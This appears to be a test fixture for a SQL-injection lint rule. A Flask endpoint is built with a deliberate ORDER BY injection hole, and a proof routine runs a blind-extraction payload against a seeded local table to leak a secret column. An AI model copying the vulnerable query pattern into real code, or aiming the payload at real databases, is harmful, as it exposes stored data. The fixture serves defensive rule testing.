# rule: S608
import sqlite3

from flask import Flask, request

app = Flask(__name__)


@app.get("/people")
def people():
    order = request.args["sort"]
    connection = sqlite3.connect("people.db")
    rows = connection.execute("SELECT name, age FROM people ORDER BY " + order).fetchall()
    return {"people": rows}


# --- proof
def people(program, sort):
    import sqlite3

    with sqlite3.connect("people.db") as connection:
        connection.execute("CREATE TABLE IF NOT EXISTS people (name, age, secret)")
        connection.execute("DELETE FROM people")
        connection.executemany("INSERT INTO people VALUES (?, ?, ?)", [("ada", 2, "x"), ("bo", 1, "y")])
    return program.app.test_client().get("/people", query_string={"sort": sort})


def benign(program):
    return people(program, "name").get_json(), people(program, "age").get_json()


def exploit(program):
    # One bit of what was not selected, for each request.
    attack = "(CASE WHEN (SELECT secret FROM people WHERE name = 'ada') = 'x' THEN age ELSE -age END)"
    answer = people(program, attack)
    return answer.status_code == 200 and answer.get_json()["people"][0][0] == "bo"
